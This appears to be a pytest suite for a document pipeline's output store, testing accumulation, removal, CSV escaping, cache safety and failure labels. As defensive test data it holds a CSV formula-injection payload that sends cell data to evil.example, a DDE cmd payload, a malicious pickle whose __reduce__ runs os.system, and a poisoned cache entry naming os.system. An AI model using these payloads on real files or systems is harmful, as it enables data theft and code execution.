"""The output folder as a store (issue 19, cases 1, 2, 3, 4, 10 and 11), on real files made here."""
from __future__ import annotations

import os
import pickle
import shutil
import sqlite3

import pandas as pd
import pytest

from flows import store as store_mod
from flows.cache import CACHE_DIRNAME, ResultCache
from flows.pipeline import run_local
from flows.store import FAILURES, StoreRefused, doc_id_for, remove_paths
from tests import badfiles
from tests.reliability.helpers import docs, formats_agree, names, paper, read_all


# ------------------------------------------------------------ 11: the store accumulates

def test_a_run_over_other_papers_keeps_every_earlier_document(tmp_path):
    out = tmp_path / "out"
    for i in range(3):
        paper(tmp_path / "corpus", f"c{i}.txt", i + 1)
    paper(tmp_path / "papers", "p0.txt", 2)
    first = run_local([tmp_path / "corpus"], out, use_cache=True)
    assert (first.added, first.stored) == (3, 3)
    amounts_before = len(read_all(out, "amounts")["csv"])

    second = run_local([tmp_path / "papers"], out, use_cache=True)
    assert (second.added, second.updated, second.unchanged, second.removed) == (1, 0, 0, 0)
    assert second.stored == 4
    assert names(out) == {"c0.txt", "c1.txt", "c2.txt", "p0.txt"}
    assert len(read_all(out, "amounts")["csv"]) == amounts_before + 2
    assert formats_agree(out)


def test_rows_leave_only_when_the_file_is_gone_from_a_remembered_source(tmp_path):
    out = tmp_path / "out"
    gone = paper(tmp_path / "corpus", "gone.txt", 1)
    paper(tmp_path / "corpus", "kept.txt", 2)
    paper(tmp_path / "papers", "p.txt", 1)
    run_local([tmp_path / "corpus"], out, use_cache=True)
    gone.unlink()
    # Another folder this time: corpus/ is remembered, and its deleted file leaves.
    summary = run_local([tmp_path / "papers"], out, use_cache=True)
    assert (summary.added, summary.removed) == (1, 1)
    assert names(out) == {"kept.txt", "p.txt"}
    ids = set(docs(out).doc_id)
    for table in ("pages", "amounts", "resolutions"):
        assert set(read_all(out, table)["csv"].doc_id) <= ids, table
    assert formats_agree(out)


def test_remove_and_replace_are_the_explicit_ways_out(tmp_path):
    out = tmp_path / "out"
    for i in range(2):
        paper(tmp_path / "a", f"a{i}.txt", 1)
        paper(tmp_path / "b", f"b{i}.txt", 1)
    run_local([tmp_path / "a", tmp_path / "b"], out, use_cache=True)
    counts = remove_paths(out, [tmp_path / "a" / "a0.txt"])
    assert (counts.removed, counts.stored) == (1, 3)
    assert names(out) == {"a1.txt", "b0.txt", "b1.txt"}
    summary = run_local([tmp_path / "b"], out, use_cache=True, replace=True)
    assert (summary.unchanged, summary.removed, summary.stored) == (2, 1, 2)
    assert names(out) == {"b0.txt", "b1.txt"}
    assert formats_agree(out)


def test_a_run_that_would_empty_the_store_refuses_and_changes_nothing(tmp_path):
    out = tmp_path / "out"
    paper(tmp_path / "papers", "p.txt", 2)
    (tmp_path / "empty").mkdir()
    run_local([tmp_path / "papers"], out, use_cache=True)
    before = {p.name: p.read_bytes() for p in out.glob("*.csv")}

    # An empty folder adds nothing and removes nothing ...
    summary = run_local([tmp_path / "empty"], out, use_cache=True)
    assert (summary.documents, summary.removed, summary.stored) == (0, 0, 1)
    # ... and replacing the store with it, or removing its last document, refuses.
    with pytest.raises(StoreRefused, match="would remove all 1 documents"):
        run_local([tmp_path / "empty"], out, use_cache=True, replace=True)
    with pytest.raises(StoreRefused):
        remove_paths(out, [tmp_path / "papers"])
    assert {p.name: p.read_bytes() for p in out.glob("*.csv")} == before
    remove_paths(out, [tmp_path / "papers"], allow_empty=True)       # unless told
    assert docs(out).empty and formats_agree(out)


# ------------------------------------------------------------ 1: one doc_id per path

def test_two_copies_of_one_file_are_two_documents_in_every_format(tmp_path):
    out = tmp_path / "out"
    original = paper(tmp_path / "src" / "march", "report.txt", 3)
    (tmp_path / "src" / "april").mkdir()
    copy = tmp_path / "src" / "april" / "report.txt"
    shutil.copy(original, copy)
    run_local([tmp_path / "src"], out)
    d = docs(out)
    assert len(d) == 2 and d.doc_id.nunique() == 2
    assert set(d.doc_id) == {doc_id_for(original), doc_id_for(copy)}
    assert d.content_sha256.nunique() == 1                     # the copies are still findable
    amounts = read_all(out, "amounts")
    assert {fmt: len(df) for fmt, df in amounts.items()} == {"csv": 6, "parquet": 6, "sqlite": 6}
    assert amounts["sqlite"].groupby("doc_id").size().tolist() == [3, 3]
    assert formats_agree(out)


# ------------------------------------------------------------ 2: formulas in CSV

FORMULA = '=HYPERLINK("http://evil.example/?d="&C2&D2,"Clerk to report back")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_would_start_a_formula_are_neutralised(tmp_path, start):
    out = tmp_path / "out"
    title = start + FORMULA.lstrip("=") if start != "=" else FORMULA
    paper(tmp_path / "src", "odd.txt", 1, first_line=title)
    run_local([tmp_path / "src"], out)
    formats = read_all(out, "documents")
    csv_title = formats["csv"].title.iloc[0]
    assert csv_title.startswith("'") and csv_title[1:].strip() == title.strip()
    assert formats["parquet"].title.iloc[0].strip() == title.strip()      # the data itself is kept
    run_local([tmp_path / "src"], tmp_path / "raw", csv_raw=True)
    assert read_all(tmp_path / "raw", "documents")["csv"].title.iloc[0].strip() == title.strip()


def test_negative_numbers_in_csv_stay_numbers():
    from flows.tables import neutralise_cell

    assert neutralise_cell("-5000") == "-5000" and neutralise_cell("+44") == "+44"
    assert neutralise_cell("-1+cmd|' /C calc'!A0") == "'-1+cmd|' /C calc'!A0"
    # a title keeps no leading tab or CR (extraction strips it), so these are checked here
    assert neutralise_cell("\t=1+1") == "'\t=1+1" and neutralise_cell("\r@SUM(A1)") == "'\r@SUM(A1)"
    assert neutralise_cell("Clerk = report") == "Clerk = report"


# ------------------------------------------------------------ 3: the cache is data

def test_a_crafted_pickle_in_the_cache_is_never_loaded(tmp_path):
    out = tmp_path / "out"
    paper(tmp_path / "src", "p.txt", 1)
    marker = tmp_path / "pwned"

    class Exploit:
        def __reduce__(self):
            return (os.system, (f"touch {marker}",))

    (out / CACHE_DIRNAME).mkdir(parents=True)
    for name in ("0" * 64 + ".pkl", "entry.pkl"):
        (out / CACHE_DIRNAME / name).write_bytes(pickle.dumps(Exploit()))
    summary = run_local([tmp_path / "src"], out, use_cache=True)
    assert summary.added == 1 and not marker.exists()
    assert not list((out / CACHE_DIRNAME).glob("*.pkl"))           # and old pickles are cleared away


def _poison(out, value: str) -> None:
    with sqlite3.connect(out / CACHE_DIRNAME / "cache.sqlite") as con:
        con.execute("UPDATE entries SET result = ?", (value,))


@pytest.mark.parametrize("value", ['{"document": 5, "tables": {}}', "[1, 2, 3]", "not json",
                                   '{"document": {"doc_id": "x", "source_path": "y", "pages": "many"},'
                                   ' "tables": {}}',
                                   '{"document": {"doc_id": "x", "source_path": "y"}, '
                                   '"tables": {"__import__": [{"os": "system"}]}}'])
def test_a_damaged_or_foreign_cache_entry_is_a_miss_with_a_warning(tmp_path, capsys, value):
    out = tmp_path / "out"
    paper(tmp_path / "src", "p.txt", 2)
    run_local([tmp_path / "src"], out, use_cache=True)
    _poison(out, value)
    remove_paths(out, [tmp_path / "src"], allow_empty=True)        # the store forgets; the cache is asked
    capsys.readouterr()
    summary = run_local([tmp_path / "src"], out, use_cache=True)
    assert (summary.added, summary.cached) == (1, 0)
    assert "cache entry" in capsys.readouterr().err
    assert len(read_all(out, "amounts")["csv"]) == 2
    summary = run_local([tmp_path / "src"], out, use_cache=True)   # and every later run works
    assert summary.unchanged == 1


def test_a_cache_file_that_is_not_a_database_is_set_aside(tmp_path, capsys):
    out = tmp_path / "out"
    paper(tmp_path / "src", "p.txt", 1)
    (out / CACHE_DIRNAME).mkdir(parents=True)
    (out / CACHE_DIRNAME / "cache.sqlite").write_bytes(b"\x00garbage" * 500)
    summary = run_local([tmp_path / "src"], out, use_cache=True)
    assert summary.added == 1
    assert "damaged" in capsys.readouterr().err
    assert ResultCache(out / CACHE_DIRNAME).get("missing") is None


# ------------------------------------------------------------ 4: every path is a row

def test_dangling_and_looping_links_and_unreadable_folders_are_failed_rows(tmp_path, monkeypatch):
    out, src = tmp_path / "out", tmp_path / "src"
    paper(src, "good.txt", 1)
    badfiles.dangling_link(src)                                   # moved-away.txt -> nowhere
    (src / "self.pdf").symlink_to(src / "self.pdf")               # a link to itself
    (src / "sub").mkdir()
    (src / "sub" / "up").symlink_to(src)                          # a folder link back up: a loop
    locked = src / "locked"
    locked.mkdir()
    paper(locked, "inside.txt", 1)
    real_scandir = store_mod._scandir

    def scandir(folder):                                          # root reads anything: refuse here
        if folder == locked:
            raise PermissionError(13, "Permission denied")
        return real_scandir(folder)
    monkeypatch.setattr(store_mod, "_scandir", scandir)
    run_local([src], out)
    d = docs(out).set_index("source_path")
    expected = {"moved-away.txt": "dangling", "self.pdf": "loop", "up": "loop", "locked": "Permission denied"}
    for name, words in expected.items():
        row = d[[p.rsplit("/", 1)[-1] == name for p in d.index]].iloc[0]
        assert row.status == "failed" and row.failure == "unreadable", name
        assert words in row.error and "\n" not in row.error, name
    assert d.loc[str(src / "good.txt")].status == "ok"
    assert formats_agree(out)


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads files whatever their mode")
def test_a_file_without_read_permission_is_a_failed_row(tmp_path):
    src = tmp_path / "src"
    secret = paper(src, "secret.txt", 1)
    secret.chmod(0)
    run_local([src], tmp_path / "out")
    row = docs(tmp_path / "out").iloc[0]
    assert (row.status, row.failure) == ("failed", "unreadable")


def test_a_document_unreadable_this_time_keeps_its_rows_as_stale(tmp_path):
    out, src = tmp_path / "out", tmp_path / "src"
    target = paper(src, "minutes.txt", 2)
    run_local([src], out, use_cache=True)
    amounts = read_all(out, "amounts")["csv"]
    moved = tmp_path / "elsewhere.txt"
    target.rename(moved)
    target.symlink_to(tmp_path / "unmounted" / "minutes.txt")    # the drive is not there this time
    summary = run_local([src], out, use_cache=True)
    assert (summary.stale, summary.removed) == (1, 0)
    assert summary.failed and "stale" in summary.failed[0][1]
    row = docs(out).iloc[0]
    assert (row.status, row.failure) == ("stale", "unreadable")
    pd.testing.assert_frame_equal(read_all(out, "amounts")["csv"], amounts)
    target.unlink()
    moved.rename(target)                                          # back again: read afresh, ok
    summary = run_local([src], out, use_cache=True)
    assert docs(out).iloc[0].status == "ok" and summary.updated == 1
    assert formats_agree(out)


@pytest.mark.slow
def test_strict_exits_1_when_a_document_is_stale(tmp_path, prefect_harness):
    from click.testing import CliRunner

    from flows.cli import cli

    out, src = tmp_path / "out", tmp_path / "src"
    target = paper(src, "minutes.txt", 1)
    run_local([src], out, use_cache=True)
    target.unlink()
    target.symlink_to(tmp_path / "nowhere.txt")
    result = CliRunner().invoke(cli, ["run", str(src), "--out", str(out), "--strict", "--quiet"])
    assert result.exit_code == 1, result.output
    assert "stale (earlier rows kept)" in result.output and "Traceback" not in result.output


# ------------------------------------------------------------ 10: the failure vocabulary

def test_every_failure_has_a_word_of_the_vocabulary(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    good = badfiles.text_pdf(src)
    expected = {
        "empty.pdf": "empty", "picture.pdf": "not_pdf", "truncated.pdf": "corrupt",
        "scan.pdf": "image_only_no_ocr", "binary.txt": "corrupt", "big.txt": "too_large",
        "moved-away.txt": "unreadable",
    }
    badfiles.empty(src), badfiles.png_as_pdf(src), badfiles.truncated(src, good)
    badfiles.undecodable_text(src), badfiles.dangling_link(src)
    with open(src / "big.txt", "w") as fh:                       # 50 MB of real-looking text
        line = "RESOLVED: That the Council notes the report on the budget of £2.5m for 2025/26.\n"
        for _ in range(50 * 2**20 // len(line) + 1):
            fh.write(line)
    if badfiles.encrypted(src, good):
        expected["encrypted.pdf"] = "encrypted"
    from flows.reading import ocr
    if ocr.engine_missing():
        badfiles.image_only(src)
    else:
        del expected["scan.pdf"]
    run_local([src], tmp_path / "out")
    d = docs(tmp_path / "out")
    d["name"] = d.source_path.map(lambda p: p.rsplit("/", 1)[-1])
    d = d.set_index("name")
    assert set(d.failure) <= set(FAILURES) | {""}
    assert d.loc["good.pdf"].failure == ""
    for name, word in expected.items():
        assert d.loc[name].failure == word, (name, d.loc[name].error)
    assert "too large" in d.loc["big.txt"].error


def test_a_timeout_is_tried_again_by_the_next_run(tmp_path, monkeypatch):
    import flows.pipeline as pipeline

    src, out = tmp_path / "src", tmp_path / "out"
    paper(src, "slow.txt", 1)
    real = pipeline.process_document

    def times_out(path, limits, sha256=None):
        result = real(path, limits, sha256)
        result.document.status, result.document.error = "failed", "timeout: took longer than 1 s"
        result.tables = {}
        return result
    monkeypatch.setattr(pipeline, "process_document", times_out)
    run_local([src], out, use_cache=True)
    assert docs(out).iloc[0].failure == "timeout"
    monkeypatch.undo()
    summary = run_local([src], out, use_cache=True)
    assert summary.updated == 1 and docs(out).iloc[0].status == "ok"
